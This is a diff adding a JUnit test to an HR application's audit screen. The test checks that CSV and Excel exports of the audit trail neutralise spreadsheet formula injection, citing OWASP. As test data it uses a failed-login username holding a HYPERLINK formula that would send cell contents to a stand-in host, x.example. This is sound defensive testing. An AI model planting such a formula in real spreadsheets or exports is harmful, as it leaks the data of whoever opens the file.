@@ -31,7 +31,11 @@ import org.dhatim.fastexcel.reader.Row;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.context.annotation.Import;
+import org.springframework.context.ApplicationEventPublisher;
 import org.springframework.security.access.AccessDeniedException;
+import org.springframework.security.authentication.BadCredentialsException;
+import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
+import org.springframework.security.authentication.event.AuthenticationFailureBadCredentialsEvent;
 
 /** The Audit screen: ADMIN and HR search the trail by period, actor, subject and kind, and export what they found. */
 @Import(PrivacyFixture.class)
@@ -45,6 +49,8 @@ class AuditViewTests extends KaribuTest {
     AuditExport export;
     @Autowired
     PrivacyFixture fixture;
+    @Autowired
+    ApplicationEventPublisher publisher;
 
     @Test
     void shouldFindTheEntriesOfOneKindAboutOneEmployeePagedNewestFirst() {
@@ -138,6 +144,47 @@ class AuditViewTests extends KaribuTest {
         });
         assertThat(audit.latest("audit.export")).element(1)
                 .satisfies(entry -> assertThat(entry.detail()).startsWith("csv, 2 entries"));
+    }
+
+    /**
+     * A failed login records the username as typed: whoever types a formula as their username must not have it run
+     * on the machine of the auditor who opens the export (OWASP CSV injection). The Excel export keeps it as it was:
+     * a string cell is never a formula.
+     */
+    @Test
+    void shouldExportAUsernameThatLooksLikeAFormulaAsText() throws Exception {
+        String hostile = "=HYPERLINK(\"http://x.example/?d=\"&A2,\"Klik hier\")";
+        publisher.publishEvent(new AuthenticationFailureBadCredentialsEvent(
+                UsernamePasswordAuthenticationToken.unauthenticated(hostile, "geraden"),
+                new BadCredentialsException("wrong password")));
+        audit.record("auditor0", "audittest.injection", "@SUM(1+1)", null, AuditTrail.SUCCESS, null,
+                "-2+3 ook als toelichting");
+        login(DemoUsers.ADMIN);
+        AuditExport.Labels labels = column -> column;
+
+        ByteArrayOutputStream csv = new ByteArrayOutputStream();
+        export.csv(new AuditQuery(null, null, hostile, null, null, "LOGIN"), labels, ZoneId.of("Europe/Amsterdam"),
+                csv);
+        export.csv(new AuditQuery(null, null, null, null, null, "audittest.injection"), labels,
+                ZoneId.of("Europe/Amsterdam"), csv);
+        String text = new String(csv.toByteArray(), StandardCharsets.UTF_8).replace("\uFEFF", "");
+        List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setDelimiter(';').get()
+                .parse(new java.io.StringReader(text)).getRecords();
+        CSVRecord login = rows.stream().filter(r -> r.get(3).equals("LOGIN")).findFirst().orElseThrow();
+        assertThat(login.get(2)).isEqualTo("'" + hostile);
+        assertThat(login.get(6)).isEqualTo("FAILURE");
+        CSVRecord other = rows.stream().filter(r -> r.get(3).equals("audittest.injection")).findFirst().orElseThrow();
+        assertThat(other.get(4)).isEqualTo("'@SUM(1+1)");
+        assertThat(other.get(8)).isEqualTo("'-2+3 ook als toelichting");
+
+        ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
+        export.excel(new AuditQuery(null, null, hostile, null, null, "LOGIN"), labels, ZoneId.of("Europe/Amsterdam"),
+                xlsx);
+        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
+            Row row = workbook.getFirstSheet().read().get(1);
+            assertThat(row.getCellText(2)).isEqualTo(hostile);
+            assertThat(row.getCell(2).getType()).isEqualTo(org.dhatim.fastexcel.reader.CellType.STRING);
+        }
     }
 
     @Test
